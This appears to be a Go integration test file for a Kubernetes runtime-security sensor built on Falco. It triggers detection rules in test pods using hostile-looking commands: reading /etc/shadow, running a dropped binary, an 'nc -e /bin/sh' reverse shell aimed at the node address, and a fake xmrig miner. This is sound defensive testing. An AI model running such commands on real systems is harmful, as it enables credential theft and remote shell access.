package node

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/palisade-dev/palisade/internal/core/falco"
)

const sensorLabels = "app.kubernetes.io/instance=palisade,app.kubernetes.io/component=sensor"

// requireSensor skips unless the cluster runs the sensor (hack/cluster.sh
// up --with-sensor); with PALISADE_NODE_SENSOR set (hack/test.sh) its
// absence fails instead.
func requireSensor(t *testing.T) {
	t.Helper()
	r := kubectl(context.Background(), "", "get", "daemonset", "-n", releaseNS, "-l", sensorLabels, "-o", "name")
	if strings.TrimSpace(r.stdout) != "" {
		if r := kubectl(context.Background(), "", "rollout", "status", "-n", releaseNS, "daemonset/palisade-sensor", "--timeout=90s"); r.err != nil {
			t.Fatalf("the sensor is not running: %s", r)
		}
		return
	}
	if os.Getenv("PALISADE_NODE_SENSOR") != "" {
		t.Fatal("PALISADE_NODE_SENSOR is set but the cluster runs no sensor (hack/cluster.sh up --with-sensor)")
	}
	t.Skip("the cluster runs no sensor (hack/cluster.sh up --with-sensor)")
}

// sensorAlerts are the alerts the sensor printed (one Falco JSON line
// each on its stdout).
func sensorAlerts(t *testing.T) []falco.Alert {
	t.Helper()
	out := kubectl(context.Background(), "", "logs", "-n", releaseNS, "-l", sensorLabels, "--tail=-1").stdout
	var alerts []falco.Alert
	sc := bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var a falco.Alert
		if json.Unmarshal(sc.Bytes(), &a) == nil && a.Rule != "" {
			alerts = append(alerts, a)
		}
	}
	return alerts
}

// waitAlert waits for the sensor's alert of rule on pod ns/name, and logs
// its output line.
func waitAlert(t *testing.T, rule, ns, name string) falco.Alert {
	t.Helper()
	var found falco.Alert
	eventually(t, 30*time.Second, "the sensor's alert "+rule+" on "+ns+"/"+name, func() bool {
		for _, a := range sensorAlerts(t) {
			if a.Rule == rule && a.Field("k8s.ns.name") == ns && a.Field("k8s.pod.name") == name {
				found = a
				return true
			}
		}
		return false
	})
	t.Logf("%s: %s", rule, found.Output)
	for _, want := range []string{"k8s_ns_name=" + ns, "k8s_pod_name=" + name, "container_name=", "container_image_repository=palisade.test/busybox"} {
		if !strings.Contains(found.Output, want) {
			t.Errorf("the alert's output lacks %q: %s", want, found.Output)
		}
	}
	if strings.Contains(found.Output, "container_id=host") || strings.Contains(found.Output, "<NA>") && strings.Contains(found.Output, "k8s_pod_name=<NA>") {
		t.Errorf("the alert does not name its container and pod: %s", found.Output)
	}
	return found
}

// sensorRuleset is a RuntimeRuleset of the sensor's stable rules, by name.
const sensorRuleset = `---
apiVersion: palisade.dev/v1
kind: RuntimeRuleset
metadata: {name: %s}
spec:
  falcoAlerts: [%s]
`

// usePolicyWith is usePolicy with RuntimeRuleset documents beside the
// policy in the chart's policy file.
func usePolicyWith(t *testing.T, name, spec string, docs ...string) {
	t.Helper()
	usePolicyDocs(t, name, policyYAML(name, spec)+strings.Join(docs, ""))
}

// A terminal shell opened with kubectl exec -it in a real container: the
// sensor's "Terminal shell in container" (Falco's stable rule, seen in the
// kernel, not in the audit log) reaches the agent, and the ruleset bound to
// the pod terminates it.
func TestSensorTerminalShellTerminates(t *testing.T) {
	requireSensor(t)
	const ns = "node-sensor-shell"
	namespace(t, ns)
	usePolicyWith(t, "sensor-shell", `clusterWide:
  runtime:
    rulesets:
      - {ruleset: sensor-shell, selector: {matchLabels: {app: sensor-shell}}, action: terminate}`,
		fmt.Sprintf(sensorRuleset, "sensor-shell", "Terminal shell in container"))
	shellPod(t, ns, "victim", "app: sensor-shell")
	id := containerID(t, ns, "victim")
	cmd := "kubectl --kubeconfig " + env.kubeconfig + " exec -it -n " + ns + " victim -- sh -c 'echo in; sleep 2'"
	if out, err := exec.Command("script", "-qec", cmd, "/dev/null").CombinedOutput(); !strings.Contains(string(out), "in") {
		t.Fatalf("the terminal session did not run: %v: %q", err, out)
	}
	a := waitAlert(t, "Terminal shell in container", ns, "victim")
	if !strings.Contains(a.Output, "process=sh") || strings.Contains(a.Output, "terminal=0 ") {
		t.Errorf("want a shell with a terminal: %s", a.Output)
	}
	waitTerminated(t, id, "victim", "Terminal shell in container")
}

// The other stable rules the seed documents name, each fired by doing in a
// real container what it describes; the bound action here is log.
func TestSensorStableRulesInContainers(t *testing.T) {
	requireSensor(t)
	const ns = "node-sensor-rules"
	namespace(t, ns)
	rules := []string{"Read sensitive file untrusted", "Drop and execute new binary in container",
		"Netcat Remote Code Execution in Container", "Packet socket created in container"}
	usePolicyWith(t, "sensor-rules", `clusterWide:
  runtime:
    rulesets:
      - {ruleset: sensor-rules, selector: {matchLabels: {app: sensor-rules}}, action: log}`,
		fmt.Sprintf(sensorRuleset, "sensor-rules", strings.Join(rules, ", ")))
	shellPod(t, ns, "target", "app: sensor-rules")
	gw := strings.TrimSpace(mustKubectl(t, "", "get", "pod", "-n", ns, "target", "-o", "jsonpath={.status.hostIP}"))
	// Each command is run by the container's runtime (kubectl exec), not
	// by busybox's shell, which runs its applets through /proc/self/exe
	// (their process name would be "exe").
	for _, c := range []struct {
		rule string
		cmd  []string
		want string // in the alert's output
	}{
		{rules[0], []string{"cat", "/etc/shadow"}, "file=/etc/shadow"},
		// A binary written into the container (its upper layer), then run.
		{rules[1], []string{"sh", "-c", "cp /bin/busybox /tmp/true && /tmp/true"}, "proc_exe=/tmp/true"},
		// nc -e gives a shell to whoever it connects to: a reverse shell
		// to the node's address (nothing listens; the exec is what fires).
		{rules[2], []string{"nc", "-e", "/bin/sh", gw, "4444"}, "command=nc -e /bin/sh"},
		{rules[3], []string{"arping", "-c", "1", "-w", "1", "-I", "eth0", gw}, "AF_PACKET"},
	} {
		t.Run(c.rule, func(t *testing.T) {
			// nc and arping fail (nothing answers): what they did is what counts.
			kubectl(context.Background(), "", append([]string{"exec", "-n", ns, "target", "--"}, c.cmd...)...)
			a := waitAlert(t, c.rule, ns, "target")
			if !strings.Contains(a.Output, c.want) {
				t.Errorf("the alert's output lacks %q: %s", c.want, a.Output)
			}
			eventually(t, 10*time.Second, "the agent's event", func() bool { return hasEvent(t, "target", c.rule, "log", "") })
		})
	}
}

// The sensor runs with the capabilities the chart documents, not
// privileged.
func TestSensorNotPrivileged(t *testing.T) {
	requireSensor(t)
	sc := mustKubectl(t, "", "get", "daemonset", "-n", releaseNS, "palisade-sensor", "-o",
		"jsonpath={.spec.template.spec.containers[0].securityContext}")
	var got struct {
		Privileged   bool `json:"privileged"`
		Capabilities struct {
			Add  []string `json:"add"`
			Drop []string `json:"drop"`
		} `json:"capabilities"`
	}
	if err := json.Unmarshal([]byte(sc), &got); err != nil {
		t.Fatalf("%v: %s", err, sc)
	}
	if got.Privileged || strings.Join(got.Capabilities.Drop, ",") != "ALL" ||
		strings.Join(got.Capabilities.Add, ",") != "BPF,PERFMON,SYS_PTRACE,DAC_READ_SEARCH" {
		t.Errorf("sensor security context %s: want not privileged, ALL dropped, BPF PERFMON SYS_PTRACE DAC_READ_SEARCH added", sc)
	}
}

// A ruleset's own syscall rule (falcoRules, source syscall, built on the
// stable rules' macros): the agent serves it to the sensor (GET
// /sensor/rules), the sensor evaluates it in the kernel's events, and the
// binding terminates the pod.
func TestSensorRulesetSyscallRule(t *testing.T) {
	requireSensor(t)
	const ns = "node-sensor-miner"
	namespace(t, ns)
	usePolicyWith(t, "sensor-miner", `clusterWide:
  runtime:
    rulesets:
      - {ruleset: miner, selector: {matchLabels: {app: sensor-miner}}, action: terminate}`, `---
apiVersion: palisade.dev/v1
kind: RuntimeRuleset
metadata: {name: miner}
spec:
  falcoRules:
    - rule: Miner started in container
      desc: a process named like a known miner starts in a container
      condition: spawned_process and container and proc.name in (xmrig, minerd)
      output: miner %proc.exepath started (command=%proc.cmdline)
      priority: CRITICAL
      source: syscall
`)
	shellPod(t, ns, "miner", "app: sensor-miner")
	id := containerID(t, ns, "miner")
	// The sensor asks the agent for the rulesets' rules every 15 s: run
	// the miner until the rule fires.
	eventually(t, 60*time.Second, "the sensor's alert Miner started in container", func() bool {
		kubectl(context.Background(), "", "exec", "-n", ns, "miner", "--", "sh", "-c", "cp /bin/busybox /tmp/xmrig; /tmp/xmrig; true")
		for _, a := range sensorAlerts(t) {
			if a.Rule == "Miner started in container" && a.Field("k8s.pod.name") == "miner" {
				t.Logf("%s: %s", a.Rule, a.Output)
				return true
			}
		}
		return false
	})
	waitTerminated(t, id, "miner", "Miner started in container")
}

// waitTerminated waits for the pod's container (id) to be gone from
// containerd and for the agent's event saying rule deleted the pod.
func waitTerminated(t *testing.T, id, pod, rule string) {
	t.Helper()
	eventually(t, 30*time.Second, "the container to be gone from containerd", func() bool { return !runningInContainerd(t, id) })
	eventually(t, 10*time.Second, "the runtime event", func() bool {
		return hasEvent(t, pod, rule, "terminate", "(pod deleted)")
	})
}
